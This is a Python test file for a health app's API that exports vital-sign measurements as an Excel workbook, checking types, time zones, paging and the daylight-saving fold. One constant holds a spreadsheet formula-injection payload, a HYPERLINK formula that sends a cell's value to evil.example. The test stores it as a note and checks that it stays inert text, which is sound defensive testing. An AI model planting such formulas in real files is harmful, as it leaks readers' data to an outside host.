"""The measurements as an Excel workbook (``Accept:
application/vnd.openxmlformats-officedocument.spreadsheetml.sheet``), for a doctor: a CSV opens in
one column in a French Excel (its list separator is ``;``, its decimal mark ``,``). Read back with
openpyxl, as a spreadsheet reads it: numbers are numbers, instants dates and times of the space's
time zone, text stays text (never a formula), the page and its cursor as the CSV's."""

from __future__ import annotations

import io
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import httpx
import openpyxl

from tests.helpers.people import MakeAppToken, Person
from tests.helpers.vitals import VITALS, pressure, weight

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ATTACK = '=HYPERLINK("https://evil.example/?d="&A3,"Voir")'


def _sheet(answer: httpx.Response) -> list[dict[str, object]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == XLSX
    assert answer.headers["content-disposition"] == 'attachment; filename="mesures.xlsx"'
    book = openpyxl.load_workbook(io.BytesIO(answer.content))
    assert book.sheetnames == ["Mesures"] and book.properties.creator == "ENS"
    rows = list(book["Mesures"].iter_rows(values_only=True))
    header = [str(title) for title in rows[0]]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


async def test_a_doctor_opens_the_measures_in_a_spreadsheet(
    client: httpx.AsyncClient, person: Person, make_app_token: MakeAppToken
) -> None:
    app = await make_app_token(person, ["vitals.body_weight:write", "vitals.blood_pressure:write"])
    batch = [
        weight(72.5, minutes_ago=30, note=ATTACK, device={"manufacturer": "Withings", "model": "Body+"}),
        {**pressure(132, 84, minutes_ago=90), "note": "après l'effort — 🚶"},
    ]
    stored = await client.post(VITALS, json={"measurements": batch}, headers=app.headers)
    assert stored.status_code == 201, stored.text
    json_items = (await client.get(VITALS, headers=person.headers)).json()["items"]

    rows = _sheet(await client.get(VITALS, headers={**person.headers, "Accept": XLSX}))
    zone = "Europe/Paris"
    assert [row["id"] for row in rows] == [item["id"] for item in json_items]
    weighed, pressed = rows
    # Numbers as numbers (a whole-number type's as integers), in the JSON's units.
    assert weighed["value"] == 72.5 and weighed["unit"] == "kg" and weighed["systolic"] is None
    assert (pressed["systolic"], pressed["diastolic"], pressed["unit"]) == (132, 84, "mm[Hg]")
    assert isinstance(pressed["systolic"], int)
    # The instant as a date and time of the space's zone, which the header names.
    effective = datetime.fromisoformat(json_items[0]["effectiveAt"].replace("Z", "+00:00"))
    local = effective.astimezone(ZoneInfo(zone)).replace(tzinfo=None)
    # (a spreadsheet keeps a time to the millisecond: a day's fraction)
    taken = weighed[f"effectiveAt ({zone})"]
    assert isinstance(taken, datetime) and abs(taken - local) <= timedelta(milliseconds=1)
    assert weighed["effectiveAtUtcOffset"] == effective.astimezone(ZoneInfo(zone)).isoformat()[-6:]
    assert isinstance(weighed[f"createdAt ({zone})"], datetime)
    # Text as it was written: a formula is text (no formula cell), accents and emoji kept.
    assert weighed["note"] == ATTACK and pressed["note"] == "après l'effort — 🚶"
    assert (weighed["deviceManufacturer"], weighed["deviceModel"]) == ("Withings", "Body+")
    assert pressed["deviceManufacturer"] is None


async def test_the_workbook_pages_as_the_csv_does(client: httpx.AsyncClient, person: Person) -> None:
    batch = [weight(60 + n, minutes_ago=5 + n) for n in range(3)]
    assert (await client.post(VITALS, json={"measurements": batch}, headers=person.headers)).status_code == 201
    headers = {**person.headers, "Accept": XLSX}
    first = await client.get(f"{VITALS}?limit=2", headers=headers)
    assert [row["value"] for row in _sheet(first)] == [60, 61]
    cursor = first.headers["next-cursor"]
    last = await client.get(f"{VITALS}?limit=2&cursor={cursor}", headers=headers)
    assert [row["value"] for row in _sheet(last)] == [62] and "next-cursor" not in last.headers
    # JSON stays the default, and wins a tie; an empty space is a sheet of its header alone.
    tie = await client.get(VITALS, headers={**person.headers, "Accept": f"application/json, {XLSX}"})
    assert tie.headers["content-type"].startswith("application/json")
    assert (await client.head(VITALS, headers=headers)).headers["content-type"] == XLSX
    # A workbook is a zip already: not gzipped again for a client that accepts gzip.
    asked = await client.get(f"{VITALS}?limit=2", headers={**headers, "Accept-Encoding": "gzip"})
    assert "content-encoding" not in asked.headers and _sheet(asked) == _sheet(first)


async def test_an_empty_space_is_a_sheet_of_its_header(client: httpx.AsyncClient, person: Person) -> None:
    answer = await client.get(VITALS, headers={**person.headers, "Accept": XLSX})
    assert _sheet(answer) == []
    header = next(openpyxl.load_workbook(io.BytesIO(answer.content))["Mesures"].iter_rows(values_only=True))
    assert header[:3] == ("id", "type", "value") and "effectiveAt (Europe/Paris)" in header


async def test_the_hour_a_clock_goes_back_twice_is_told_apart(client: httpx.AsyncClient, person: Person) -> None:
    """On 26 October 2025 Paris's clocks went back from 03:00 to 02:00: 00:30 and 01:30 UTC are both
    02:30 there. A spreadsheet keeps no zone, so the two measures read the same time, the later one
    first, with nothing on the sheet to say which came first (the CSV gives UTC): the workbook says
    each instant's UTC offset beside it."""
    batch = [
        {"type": "heart_rate", "value": 61, "unit": "/min", "effectiveAt": "2025-10-26T00:30:00Z"},
        {"type": "heart_rate", "value": 95, "unit": "/min", "effectiveAt": "2025-10-26T01:30:00Z"},
    ]
    assert (await client.post(VITALS, json={"measurements": batch}, headers=person.headers)).status_code == 201
    rows = _sheet(await client.get(VITALS, headers={**person.headers, "Accept": XLSX}))
    seen = [(row["value"], row["effectiveAt (Europe/Paris)"], row["effectiveAtUtcOffset"]) for row in rows]
    assert seen == [
        (95, datetime(2025, 10, 26, 2, 30), "+01:00"),
        (61, datetime(2025, 10, 26, 2, 30), "+02:00"),
    ]
